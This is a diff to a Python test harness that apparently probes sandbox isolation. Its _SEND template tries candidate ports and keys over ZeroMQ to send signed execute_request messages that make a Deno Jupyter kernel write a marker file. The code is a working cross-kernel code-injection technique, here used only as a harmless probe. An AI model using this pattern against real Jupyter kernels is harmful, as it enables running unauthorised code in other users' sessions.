@@ -83,22 +83,32 @@ def _deno_kernel(sandbox_pid: int) -> tuple[list[int], str]:
 
 
 # Signed (or unsigned) execute requests sent straight over ZeroMQ: no client threads, no
-# heartbeat, one socket per port and key, so the attack itself cannot stall on a busy machine.
+# heartbeat, one socket per port and key, and a send timeout: a port whose socket takes no
+# requests never completes the handshake, and a send to it would wait forever. Each socket is
+# closed by hand: inside a kernel, a socket dropped without close made the context's term() hang.
 _SEND = """\
 import time
 import zmq
 from jupyter_client.session import Session
 context = zmq.Context()
+sockets = []
 for port in {ports!r}:
     for key in {keys!r}:
         socket = context.socket(zmq.DEALER)
+        sockets.append(socket)
+        socket.setsockopt(zmq.SNDTIMEO, 3000)
         socket.connect(f'tcp://127.0.0.1:{{port}}')
-        Session(key=key.encode()).send(socket, 'execute_request', {{
-            'code': "Deno.writeTextFileSync('/home/user/{name}', 'x')", 'silent': False,
-            'store_history': True, 'user_expressions': {{}}, 'allow_stdin': False,
-            'stop_on_error': True}})
+        try:
+            Session(key=key.encode()).send(socket, 'execute_request', {{
+                'code': "Deno.writeTextFileSync('/home/user/{name}', 'x')", 'silent': False,
+                'store_history': True, 'user_expressions': {{}}, 'allow_stdin': False,
+                'stop_on_error': True}})
+        except zmq.Again:
+            pass  # a port that takes no requests (IOPub, heartbeat) never becomes a peer
 time.sleep(2)
-context.destroy(linger=0)
+for socket in sockets:
+    socket.close(linger=0)
+context.term()
 """
 
 
